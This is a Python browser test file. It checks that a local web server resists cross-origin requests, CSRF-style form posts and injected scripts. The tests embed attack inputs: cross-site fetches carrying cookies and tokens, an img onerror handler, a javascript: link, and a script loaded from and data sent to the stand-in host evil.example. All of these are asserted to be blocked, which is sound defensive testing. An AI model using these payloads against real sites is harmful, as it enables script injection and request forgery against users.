"""What a browser is part of in the defence, attacked in a real one."""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from tests.web.chromium import Tab, needs_chromium
from tests.web.serving import LOOPBACK, Serving

pytestmark = needs_chromium


@contextmanager
def foreign_page(html: str) -> Iterator[str]:
    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer((LOOPBACK, 0), Page) as running:
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield f"http://localhost:{running.server_address[1]}/"
        running.shutdown()


def test_a_foreign_page_cannot_use_the_server(browser: Any, server: Serving) -> None:
    """Not by fetch, not by a form, not by an image, not by a frame; and it cannot read an answer."""
    tab = Tab(browser, server).open()
    html = f"""<iframe id=f src="{server.origin}/"></iframe><img id=i src="{server.origin}/icon.svg">
    <form id=go method=post action="{server.origin}/api/puzzle" enctype=text/plain target=hole>
    <input name="R.R" value=""></form><iframe name=hole></iframe>"""
    with foreign_page(html) as address:
        page = tab.context.new_page()
        answers: dict[str, int] = {}
        page.on("response", lambda reply: answers.__setitem__(reply.request.method + reply.url, reply.status))
        page.goto(address)
        outcome = page.evaluate(
            """async (url) => { const tried = {};
            for (const [name, given] of Object.entries({
              plain: {method: 'POST', body: 'R.R'},
              cookies: {method: 'POST', body: 'R.R', credentials: 'include'},
              opaque: {method: 'POST', body: 'R.R', credentials: 'include', mode: 'no-cors'},
              token: {method: 'POST', body: 'R.R', headers: {Authorization: 'Bearer x'}}}))
              tried[name] = await fetch(url, given).then((r) => r.type + r.status, () => 'blocked');
            tried.image = document.getElementById('i').naturalWidth;
            tried.frame = await new Promise((done) => setTimeout(() => { try {
              done(document.getElementById('f').contentDocument ? 'read' : 'closed')
              } catch { done('closed') } }, 300));
            return tried; }""",
            f"{server.origin}/api/puzzle",
        )
        assert outcome == {
            "plain": "blocked",
            "cookies": "blocked",
            "opaque": "blocked",
            "token": "blocked",
            "image": 0,
            "frame": "closed",
        }
        page.evaluate("document.getElementById('go').submit()")
        for _ in range(100):
            if answers.get(f"POST{server.origin}/api/puzzle"):
                break
            page.wait_for_timeout(50)
        assert answers[f"POST{server.origin}/api/puzzle"] == 403
    tab.context.close()


def test_no_foreign_script_runs_in_the_page(browser: Any, server: Serving) -> None:
    """Neither one in the page's own text nor one from elsewhere, nor an address of the script kind."""
    tab = Tab(browser, server).open()
    ran = tab.page.evaluate(
        """async () => { window.ran = [];
        const one = document.createElement('script');
        try { one.textContent = 'ran.push(1)'; document.body.append(one); } catch {}
        const two = document.createElement('script');
        try { two.src = 'http://evil.example:9/x.js'; document.body.append(two); } catch {}
        try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran.push(3)">'); } catch {}
        try { setTimeout('ran.push(4)', 0); } catch {}
        try { const link = document.createElement('a'); link.href = 'javascript:ran.push(5)';
          document.body.append(link); link.click(); } catch {}
        await new Promise((done) => setTimeout(done, 300));
        return window.ran; }"""
    )
    assert ran == []
    assert tab.page.evaluate("document.cookie") == ""
    assert (
        tab.page.evaluate("fetch('http://evil.example:9/').then(() => 'sent', () => 'blocked')") == "blocked"
    )
    tab.context.close()
